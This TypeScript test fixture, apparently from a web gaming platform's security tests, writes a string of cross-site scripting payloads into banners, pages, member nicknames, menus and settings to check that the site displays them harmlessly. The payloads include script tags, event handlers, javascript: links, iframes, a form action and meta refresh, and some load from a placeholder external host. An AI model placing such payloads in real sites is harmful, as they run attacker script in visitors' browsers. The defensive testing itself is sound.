/** What an attacker with access to the back office might write into every text (ANN-05). */
import { writeSetting } from "@parlour/app/gateway/content/settings.ts";
import {
  announcements,
  banners,
  games,
  liveHosts,
  members,
  missions,
  notices,
  pages,
  pointRewards,
  vendors,
} from "@parlour/app/gateway/database/schema.ts";
import { operatorSettings } from "@parlour/app/seed/operator-settings.ts";
import { desc, eq, inArray } from "drizzle-orm";
import type { TestGateway } from "../../gateway/support/gateway.ts";

/** The address to which hostile texts would send a browser; no server answers there. */
const ELSEWHERE = "https://elsewhere.example";
/** What each text would do if it ran. */
const RUN = "window.pwned=(window.pwned||0)+1";

/** Part of every text, to show that the text is displayed. */
export const PLAIN_WORDS = "Plain words of";

const HOSTILE = [
  `</script></title></textarea></style>`,
  `<script>${RUN}</script><script src="${ELSEWHERE}/s.js"></script>`,
  `<img src=x onerror="${RUN}"><img src="${ELSEWHERE}/pixel.gif"><img src="//elsewhere.example/p.gif">`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s /><a href="javascript:${RUN}">a</a></svg>`,
  `<iframe src="${ELSEWHERE}/frame"></iframe><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<a href="javascript:${RUN}">Press me</a><a href=" Java&#10;Script:${RUN}">Press me</a><a href="data:text/html,x">Press me</a>`,
  `<a href="#" onclick="${RUN}" onfocus="${RUN}" autofocus tabindex=0>Press me</a><details open ontoggle="${RUN}">d</details>`,
  `<style>body{display:none}@import "${ELSEWHERE}/s.css";</style><link rel=stylesheet href="${ELSEWHERE}/l.css">`,
  `<form action="${ELSEWHERE}/form"><input name=password autofocus onfocus="${RUN}"><button formaction="javascript:${RUN}">Press me</button></form>`,
  `<p style="background:url(${ELSEWHERE}/b.png)" onmouseover="${RUN}">styled</p><base href="${ELSEWHERE}/"><meta http-equiv=refresh content="0;url=${ELSEWHERE}/">`,
  `<object data="${ELSEWHERE}/o"></object><embed src="${ELSEWHERE}/e"><video src="${ELSEWHERE}/v" onerror="${RUN}" autoplay></video>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></table></mtext></math>{{7*7}}\u2028\u202e`,
].join("");

export const hostile = (of: string): string => `${PLAIN_WORDS} ${of} ${HOSTILE}`;
const all = (of: string) => ({ EN: hostile(of) });

export const CODE = "hostile";

/** Writes hostile texts into an operator's banners, announcements, pages, games, vendors, rewards, members and settings. */
export async function poison({ database }: Pick<TestGateway, "database">): Promise<void> {
  const { db } = database;
  const startsAt = new Date(Date.now() - 60_000);
  await db.update(banners).set({
    title: all("a banner"),
    text: all("a banner's text"),
    linkageType: "URL",
    linkage: `javascript:${RUN}`,
  });
  await db.update(notices).set({ title: all("a notice"), content: all("a notice's text") });
  await db.delete(announcements);
  await db.insert(announcements).values(
    ["PU", "PR"].map((type) => ({
      type,
      execution: "F",
      title: all(`an announcement ${type}`),
      content: all(`the text ${type}`),
      promotionType: "REBATE",
      code: CODE,
      startsAt,
    })),
  );
  await db.update(pages).set({
    title: all("an article"),
    content: all("an article's text"),
    summary: all("a summary"),
    chapterTitle: all("a chapter"),
  });
  await db.insert(pages).values({
    kind: "blog",
    code: CODE,
    title: all("a blog"),
    content: all("a blog's text"),
    publishedAt: startsAt,
  });
  await db.update(liveHosts).set({ name: hostile("a host"), chatUrl: `javascript:${RUN}` });
  await db.update(pointRewards).set({ name: all("a reward") });
  await db.update(missions).set({ title: all("a mission"), description: all("a mission's text") });
  await db.update(vendors).set({ displayName: hostile("a vendor") });
  const popular = db.select({ id: games.nodeId }).from(games).orderBy(desc(games.popularity)).limit(80);
  await db
    .update(games)
    .set({ name: hostile("a game") })
    .where(inArray(games.nodeId, popular));
  await db
    .update(members)
    .set({ nickname: hostile("a player") })
    .where(eq(members.account, "player"));
  const url = `javascript:${RUN}`;
  const nowMs = Date.now();
  await writeSetting(
    database,
    "customerService",
    [{ csType: "LIVECHAT", title: hostile("support"), url }],
    nowMs,
  );
  const resources = operatorSettings.resources.map((each) => ({
    ...each,
    url,
    name: hostile("a resource"),
    labelNameEn: hostile("a resource"),
  }));
  await writeSetting(database, "resources", resources, nowMs);
  const menu = [{ code: CODE, title: { EN: hostile("a menu") }, path: "/promotions", sort: 0 }];
  await writeSetting(database, "menu", menu, nowMs);
}
